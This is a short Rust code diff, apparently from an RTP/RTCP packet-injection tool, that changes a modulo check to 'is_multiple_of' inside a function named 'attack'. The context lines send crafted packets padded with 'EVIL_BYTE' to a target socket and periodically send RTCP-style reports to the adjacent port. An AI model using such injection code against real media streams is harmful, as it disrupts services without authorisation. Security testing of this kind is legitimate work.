@@ -125,7 +125,7 @@ fn attack(
             p.extend_from_slice(&[EVIL_BYTE; 160]);
             seq[i] = seq[i].wrapping_add(1);
             let _ = socket.send_to(&p, to);
-            if round % 10 == 0 {
+            if round.is_multiple_of(10) {
                 let mut rr = vec![0x80, 201, 0, 1];
                 rr.extend_from_slice(&0x0e71_0e71u32.to_be_bytes());
                 let _ = socket.send_to(&rr, SocketAddr::new(to.ip(), to.port() + 1));
